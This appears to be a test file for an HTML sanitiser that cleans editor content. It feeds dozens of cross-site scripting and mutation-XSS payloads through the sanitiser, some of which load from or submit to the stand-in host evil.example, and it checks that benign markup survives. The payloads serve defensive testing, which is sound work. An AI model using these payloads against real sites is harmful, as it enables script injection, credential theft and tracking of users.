import { sanitiseHtml } from './sanitise-html.ts';

const dangerous =
  /<(?!\/?(?:p|br|hr|h[2-4]|ul|ol|li|strong|em|a|blockquote|figure|figcaption|img|table|caption|thead|tbody|tfoot|tr|th|td|sub|sup|bdi)\b)[a-z!?/]|\son\w+\s*=|javascript:|vbscript:|data:|style\s*=|srcdoc|formaction|xlink|srcset|\sid=|\sname=|\sclass=/i;

describe('V16: HTML of editors', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="/images/a.svg" onload="alert(1)">',
    '<img src="/images/../api/user">',
    '<img src="/images/a.jpg?w=641">',
    '<img src="/images/a.jpg?w=640&x=1">',
    '<img src="/images/a.jpg?next=https://evil.example">',
    '<img src="/images//evil.example/a.jpg#x">',
    '<img src="\\images\\a.jpg">',
    '<img src="blob:https://evil.example/a.jpg">',
    '<img src="/images/a.jpg" alt="x" loading="lazy" usemap="#m" ismap longdesc="https://evil.example">',
    '<picture><source srcset="https://evil.example/x"><img src="/images/a.jpg"></picture>',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/x 1x" src="/images/a.svg">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java&#x0A;script:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="vbscript:x">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="http://plain.example">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="/\\evil.example">a</a>',
    '<a href="https://evil.example" target="_blank" ping="https://evil.example">a</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x"><applet></applet>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>body{display:none}</style>',
    '<p style="position:fixed">x</p>',
    '<form action="https://evil.example"><input name="password"><button formaction="x">x</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<template><script>alert(1)</script></template>',
    '<p id="root" name="boot" class="x" data-x="1" aria-label="x">clobber</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<x onclick=alert(1)>x</x>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<a href="tel:javascript:alert(1)">a</a>',
  ])('%s loses what could run or load', (payload) => {
    const { html, removed } = sanitiseHtml(`<p>before</p>${payload}<p>after</p>`);
    expect(html).not.toMatch(dangerous);
    expect(html).not.toMatch(/evil\.example(?!")/);
    expect(removed.length).toBeGreaterThan(0);
    expect(sanitiseHtml(html)).toEqual({ html, removed: [] });
  });

  test.each([
    '<h2>عنوان</h2><p>نص <strong>مهم</strong> و<em>مائل</em>.</p>',
    '<ul><li>one</li></ul><ol start="3"><li>two</li></ol>',
    '<table><caption>x</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    '<figure><img src="/images/articles/heart.svg" alt="A heart" width="640" height="427"><figcaption>x</figcaption></figure>',
    '<p><img src="/images/uploads/img-2034-0123456789ab.jpg?w=1280" alt="قلب" width="1280" height="853"></p>',
    '<blockquote><p>x</p></blockquote>',
    '<p><a href="/doctors/dr-x?lang=en#top">x</a> <a href="tel:937">937</a> <a href="mailto:a@b.example">m</a> <a href="#a">y</a></p>',
    '<p><bdi dir="ltr">120/80</bdi> H<sub>2</sub>O</p>',
    '<p>1 &lt; 2 &amp; 3</p>',
  ])('%s stays as it is', (html) => {
    expect(sanitiseHtml(html)).toEqual({ html, removed: [] });
  });

  test('links out of the site tell nothing of where they are opened from', () => {
    expect(sanitiseHtml('<a href="https://moh.gov.sa" rel="opener">x</a>')).toEqual({
      html: '<a href="https://moh.gov.sa" rel="noopener">x</a>',
      removed: [],
    });
  });

  test('a picture always has a text beside it, if an empty one', () => {
    expect(sanitiseHtml('<img src="/images/a.svg">').html).toBe('<img src="/images/a.svg" alt="">');
  });
});
